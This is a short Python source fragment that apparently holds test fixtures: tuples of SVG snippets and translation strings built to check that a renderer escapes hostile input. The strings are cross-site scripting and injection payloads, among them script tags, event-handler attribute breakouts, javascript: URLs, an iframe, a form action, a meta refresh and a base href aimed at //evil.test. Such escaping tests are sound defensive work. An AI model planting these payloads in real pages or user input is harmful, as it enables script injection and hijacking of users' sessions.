SHOWN_DRAWINGS = (
    "<text>&lt;script&gt;window.pwned++&lt;/script&gt;</text>", "<text><![CDATA[</text></svg><script>window.pwned++</script>]]></text>", "<text>&#60;img src=x onerror=window.pwned++&#62;</text>",
    "<text>{{ 7*7 }} {0} %s ${x}</text>", "<text>&amp;lt;b&amp;gt;</text>", "<text x='1&quot; onclick=&quot;window.pwned++'>x</text>", "<path d='M0 0&quot;&gt;&lt;script&gt;'/>",
    "<g transform='&#34; onload=window.pwned++'/>", "<text text-anchor=\"' onclick='window.pwned++\">x</text>", "<text>]]&gt; --&gt; &lt;/svg&gt;</text>", "<!-- <script>x</script> --><g/>", "<?x y?><g/>",
)  # fmt: skip

# Translations of phrases. All are words on the page; a phrase with placeholders gets them too.
CATALOGUES = (
    f"<script>{OWN}</script>", f"<img src=x onerror={OWN}>", f"\" onmouseover={OWN} x=\"", f"' onmouseover={OWN} x='", f"</title><script>{OWN}</script>",
    f"</a></nav><svg onload={OWN}>", f"--><script>{OWN}</script>", f"]]><script>{OWN}</script>", "<!-- x", "<b>x</b>", "&lt;script&gt;", "&#60;script&#62;", "&copy; &NoBreak;",
    f"javascript:{OWN}", f"<a href={OTHER}>x</a>", f"<style>@import '{OTHER}'</style>", "</script>", "</style>", "x=y onclick=z", "%s %(name)s %n", "\\u003cscript>", "`$(x)`",
    f"<iframe src={OTHER}>", f"<form action={OTHER}><button>Go", "<base href=//evil.test>", f"<meta http-equiv=refresh content='0;{OTHER}'>", "</main></body></html>", "<plaintext>",
)  # fmt: skip
